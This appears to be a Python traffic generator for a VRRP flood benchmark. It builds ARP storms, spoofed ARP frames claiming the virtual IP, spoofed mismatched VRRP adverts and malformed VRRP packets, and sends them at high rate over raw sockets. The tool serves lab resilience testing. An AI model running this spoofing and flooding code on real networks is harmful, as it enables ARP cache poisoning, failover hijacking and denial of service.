#!/usr/bin/env python3
"""Hostile-traffic generator for the VRRP flood benchmark and FloodTest: Ethernet frames through an
AF_PACKET socket, nothing but the Python 3 standard library. Run it as root inside a lab namespace,
never on a real network.

usage: flood.py --iface eth0 --kind KIND --seconds S [--rate PPS] [--seed N] --net CIDR [--net CIDR]
                --vip ADDR --vrid N --version 2|3 --advert-int SEC [--password PW] [--prio P]
                [--target IP MAC] [--exclude ADDR ...] [--pool N] [--macs N] [--without VARIANT ...]

KIND (all frames of a kind are built up front from --seed, then sent round-robin, so a run is
reproducible and the sender only costs one send() per frame):

  arp-storm       ARP requests to the broadcast MAC from random sender MACs, random sender and
                  target IPs, half inside the --net ranges and half outside (public unicast); 5 %
                  ask for the VIP or --target's address, so the kernels answer some. Sender IPs
                  are never the VIP or an --exclude address (that is what arp-vip does).
  arp-vip         ARP frames whose sender IP is the VIP, from random MACs: gratuitous requests and
                  replies to the broadcast MAC, replies to --target (the master) and to random hosts.
  vrrp-mismatch   well-formed adverts (TTL 255, to 224.0.0.18, correct checksums) for --vrid from
                  spoofed sources in the --net ranges, each with at least one mismatch: VRRPv2 a
                  wrong password, another VIP (same count), another VIP count, another advert
                  interval (alone or with a wrong password); VRRPv3 another VIP, another VIP count,
                  another interval with another VIP, or another interval alone. RFC 5798 makes the
                  last one a valid advert, so it only comes with priorities 1..89: a lower priority
                  for the master (--prio) and for a backup at 90, never a reason to yield. All other
                  priorities are 1..254 except --prio.
  vrrp-garbage    IP protocol 112 that is not a valid advert, from random sources inside and
                  outside --net: random bytes, truncated adverts, wrong version, wrong type, bad
                  checksum, TTL below 255, trailing bytes, an address count the packet does not
                  hold; 75 % for --vrid, the rest for random VRIDs.

--rate 0 sends as fast as one thread can, until --seconds. Prints one JSON line at the end:
{"kind", "sent", "send_errors", "seconds", "rate", "distinct_sources" (sender IPs), "distinct_macs"
(Ethernet sources), "pool", "variants": {variant: frames attempted}}.
"""
import argparse
import ipaddress
import json
import random
import socket
import struct
import sys
import time

ETH_P_ARP = 0x0806
ETH_P_IP = 0x0800
BROADCAST = b"\xff" * 6
VRRP_GROUP = socket.inet_aton("224.0.0.18")
VRRP_MAC = bytes.fromhex("01005e000012")
PROTO_VRRP = 112


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ip4(addr):
    return socket.inet_aton(str(addr))


class Builder:
    def __init__(self, args, rnd):
        self.a = args
        self.r = rnd
        self.nets = [ipaddress.IPv4Network(n, strict=False) for n in args.net]
        self.vip = ipaddress.IPv4Address(args.vip)
        self.excluded = {ipaddress.IPv4Address(x) for x in args.exclude} | {self.vip}
        if args.target:
            self.target_ip = ipaddress.IPv4Address(args.target[0])
            self.target_mac = bytes.fromhex(args.target[1].replace(":", ""))
            self.excluded.add(self.target_ip)
        else:
            self.target_ip, self.target_mac = None, None
        # A bounded set of random MACs: each is learnt by the lab bridge, so a fresh MAC per
        # frame would grow its forwarding database without limit.
        self.macs = [self.random_mac() for _ in range(args.macs)]

    def random_mac(self):
        b = bytearray(self.r.getrandbits(8) for _ in range(6))
        b[0] = (b[0] & 0xFC) | 0x02  # unicast, locally administered
        return bytes(b)

    def mac(self):
        return self.r.choice(self.macs)

    def inside(self):
        while True:
            net = self.r.choice(self.nets)
            if net.num_addresses <= 2:
                return net.network_address
            a = net.network_address + self.r.randrange(1, net.num_addresses - 1)
            if a not in self.excluded:
                return a

    def outside(self):
        while True:
            a = ipaddress.IPv4Address(self.r.getrandbits(32))
            if a.is_global and not a.is_multicast and not any(a in n for n in self.nets) and a not in self.excluded:
                return a

    def anywhere(self):
        return self.inside() if self.r.random() < 0.5 else self.outside()

    # ---- ARP
    def arp(self, eth_dst, eth_src, op, sha, spa, tha, tpa):
        body = struct.pack("!HHBBH6s4s6s4s", 1, ETH_P_IP, 6, 4, op, sha, ip4(spa), tha, ip4(tpa))
        return (eth_dst + eth_src + struct.pack("!H", ETH_P_ARP) + body).ljust(60, b"\0"), ip4(spa)

    def arp_storm(self):
        m = self.mac()
        if self.r.random() < 0.05:
            tpa = self.vip if self.target_ip is None or self.r.random() < 0.5 else self.target_ip
        else:
            tpa = self.anywhere()
        return "request", *self.arp(BROADCAST, m, 1, m, self.anywhere(), b"\0" * 6, tpa)

    def arp_vip(self):
        m, vip = self.mac(), self.vip
        k = self.r.randrange(4)
        if k == 0:
            return "garp-request", *self.arp(BROADCAST, m, 1, m, vip, b"\0" * 6, vip)
        if k == 1:
            return "garp-reply", *self.arp(BROADCAST, m, 2, m, vip, BROADCAST, vip)
        if k == 2 and self.target_ip is not None:
            return "reply-to-master", *self.arp(self.target_mac, m, 2, m, vip, self.target_mac, self.target_ip)
        host = self.mac()
        return "reply-to-random", *self.arp(host, m, 2, m, vip, host, self.inside())

    # ---- VRRP
    def ipv4(self, src, payload, ttl=255, tot_len=None):
        tot = 20 + len(payload) if tot_len is None else tot_len
        hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0xC0, tot, self.r.getrandbits(16), 0, ttl, PROTO_VRRP, 0,
                          ip4(src), VRRP_GROUP)
        hdr = hdr[:10] + struct.pack("!H", checksum(hdr)) + hdr[12:]
        return VRRP_MAC + self.mac() + struct.pack("!H", ETH_P_IP) + hdr + payload

    def advert(self, src, version, vrid, prio, vips, interval_units, password=None, vtype=1, naddr=None):
        """VRRP message with a correct checksum. interval_units: seconds (v2) or centiseconds (v3)."""
        n = len(vips) if naddr is None else naddr
        addrs = b"".join(ip4(v) for v in vips)
        if version == 3:
            head = struct.pack("!BBBBHH", (3 << 4) | vtype, vrid, prio, n, interval_units & 0x0FFF, 0)
            msg = head + addrs
            pseudo = ip4(src) + VRRP_GROUP + struct.pack("!BBH", 0, PROTO_VRRP, len(msg))
            c = checksum(pseudo + msg)
        else:
            pw = (password or b"").ljust(8, b"\0")[:8]
            head = struct.pack("!BBBBBBH", (version << 4) | vtype, vrid, prio, n, 1, interval_units & 0xFF, 0)
            msg = head + addrs + pw
            c = checksum(msg)
        return msg[:6] + struct.pack("!H", c) + msg[8:]

    def other_vip(self):
        while True:
            a = self.inside()
            if a != self.vip:
                return a

    def prio_any(self):
        while True:
            p = self.r.randint(1, 254)
            if p != self.a.prio:
                return p

    def units(self):
        return round(self.a.advert_int) if self.a.version == 2 else round(self.a.advert_int * 100)

    def other_interval(self):
        mine = self.units()
        while True:
            u = self.r.randint(1, 255) if self.a.version == 2 else self.r.randint(1, 4095)
            if u != mine:
                return u

    def vrrp_mismatch(self):
        a, src, v = self.a, self.inside(), self.a.version
        pw = a.password.encode()
        if v == 2:
            kind = self.r.choice(["password", "vip", "vip-count", "interval", "interval+password"])
        else:
            kind = self.r.choice(["vip", "vip-count", "interval", "interval+vip"])
        vips, interval, prio = [self.vip], self.units(), self.prio_any()
        if kind in ("password", "interval+password"):
            while pw == a.password.encode():
                pw = bytes(self.r.randrange(33, 127) for _ in range(8))
        if kind in ("vip", "interval+vip"):
            vips = [self.other_vip()]
        if kind == "vip-count":
            vips = [self.vip] + [self.other_vip() for _ in range(self.r.randint(1, 3))]
        if kind.startswith("interval"):
            interval = self.other_interval()
        if v == 3 and kind == "interval":
            prio = self.r.randint(1, 89)  # valid under RFC 5798: only as a lower priority than both nodes
        return kind, self.ipv4(src, self.advert(src, v, a.vrid, prio, vips, interval, pw)), ip4(src)

    def vrrp_garbage(self):
        a = self.a
        src = self.anywhere()
        vrid = a.vrid if self.r.random() < 0.75 else self.r.randint(1, 255)
        v = a.version
        good = self.advert(src, v, vrid, self.prio_any(), [self.vip], self.units(), a.password.encode())
        kind = self.r.choice(["random", "truncated", "version", "type", "checksum", "ttl", "trailing", "naddr"])
        ttl = 255
        if kind == "random":
            msg = bytes(self.r.getrandbits(8) for _ in range(self.r.randint(0, 80)))
        elif kind == "truncated":
            msg = good[:self.r.randint(1, len(good) - 1)]
        elif kind == "version":
            other = self.r.choice([x for x in range(16) if x != v])
            msg = self.advert(src, other if other in (2, 3) else v, vrid, self.prio_any(), [self.vip], self.units(),
                              a.password.encode())
            msg = bytes([(other << 4) | (msg[0] & 0x0F)]) + msg[1:]
        elif kind == "type":
            msg = self.advert(src, v, vrid, self.prio_any(), [self.vip], self.units(), a.password.encode(),
                              vtype=self.r.choice([0] + list(range(2, 16))))
        elif kind == "checksum":
            msg = good[:6] + struct.pack("!H", (struct.unpack("!H", good[6:8])[0] + self.r.randint(1, 0xFFFE)) & 0xFFFF) + good[8:]
        elif kind == "ttl":
            msg, ttl = good, self.r.randint(1, 254)
        elif kind == "trailing":
            msg = good + bytes(self.r.getrandbits(8) for _ in range(self.r.randint(1, 40)))
        else:  # an address count the packet does not hold
            msg = self.advert(src, v, vrid, self.prio_any(), [self.vip], self.units(), a.password.encode(),
                              naddr=self.r.choice([0, 2, 17, 255]))
        return kind, self.ipv4(src, msg, ttl=ttl), ip4(src)


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--iface", required=True)
    p.add_argument("--kind", required=True, choices=["arp-storm", "arp-vip", "vrrp-mismatch", "vrrp-garbage"])
    p.add_argument("--seconds", type=float, required=True, help="duration bound")
    p.add_argument("--rate", type=float, default=20000, help="frames per second, 0 = as fast as possible")
    p.add_argument("--seed", type=int, default=1)
    p.add_argument("--net", action="append", required=True, help="lab range(s) for in-subnet addresses")
    p.add_argument("--vip", required=True)
    p.add_argument("--vrid", type=int, required=True)
    p.add_argument("--version", type=int, choices=[2, 3], required=True)
    p.add_argument("--advert-int", type=float, required=True)
    p.add_argument("--password", default="")
    p.add_argument("--prio", type=int, default=100, help="the master's priority, never used by the flood")
    p.add_argument("--target", nargs=2, metavar=("IP", "MAC"), help="the master (ARP replies to it)")
    p.add_argument("--exclude", action="append", default=[], help="addresses never used as a source")
    p.add_argument("--pool", type=int, default=8192, help="distinct frames built up front")
    p.add_argument("--macs", type=int, default=4096, help="distinct random source MACs")
    p.add_argument("--without", action="append", default=[], metavar="VARIANT",
                   help="leave out frames of this variant (e.g. trailing), rebuilding them as others")
    a = p.parse_args()
    if a.seconds <= 0 or a.seconds > 3600:
        p.error("--seconds must be in (0, 3600]")

    rnd = random.Random("%d/%s" % (a.seed, a.kind))
    b = Builder(a, rnd)
    make = {"arp-storm": b.arp_storm, "arp-vip": b.arp_vip, "vrrp-mismatch": b.vrrp_mismatch,
            "vrrp-garbage": b.vrrp_garbage}[a.kind]
    pool, kinds, sources = [], [], set()
    for _ in range(a.pool):
        for _attempt in range(1000):
            kind, frame, src = make()
            if kind not in a.without:
                break
        else:
            p.error("--without leaves no variant of " + a.kind)
        pool.append(frame)
        kinds.append(kind)
        sources.add(src)

    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    s.bind((a.iface, 0))
    send = s.send
    n, i, sent, errors = len(pool), 0, 0, 0
    start = time.monotonic()
    end = start + a.seconds
    batch = 64
    while True:
        now = time.monotonic()
        if now >= end:
            break
        if a.rate > 0:
            due = int((now - start) * a.rate) - sent - errors
            if due <= 0:
                time.sleep(min(0.001, end - now, max(0.0001, -due / a.rate)))
                continue
            due = min(due, 1024)
        else:
            due = batch
        for _ in range(due):
            try:
                send(pool[i])
                sent += 1
            except OSError:  # ENOBUFS and the like: the frame was not sent
                errors += 1
            i += 1
            if i == n:
                i = 0
    elapsed = time.monotonic() - start
    s.close()
    # frames attempted per variant: whole passes over the pool plus the part of the last one
    attempts = sent + errors
    per_kind = {}
    for j, k in enumerate(kinds):
        per_kind[k] = per_kind.get(k, 0) + attempts // n + (1 if j < attempts % n else 0)
    print(json.dumps({"kind": a.kind, "sent": sent, "send_errors": errors, "seconds": round(elapsed, 3),
                      "rate": round(sent / elapsed) if elapsed > 0 else 0, "distinct_sources": len(sources),
                      "distinct_macs": len({f[6:12] for f in pool}),
                      "pool": n, "variants": dict(sorted(per_kind.items()))}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
